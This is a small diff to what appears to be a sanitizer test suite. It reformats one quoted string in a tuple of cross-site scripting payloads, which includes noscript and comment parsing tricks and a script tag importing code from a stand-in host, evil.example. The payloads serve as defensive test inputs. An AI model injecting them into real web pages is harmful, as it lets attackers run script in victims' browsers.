@@ -11,7 +11,7 @@ _SCRIPTS = (
     "<script type=module>import 'https://evil.example/x.js'</script>",
     "<script\t\n>alert(1)</script\t\n>",
     "<!--><script>alert(1)</script-->",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
     "<template><script>alert(1)</script></template>",
 )
 _ELEMENTS = (
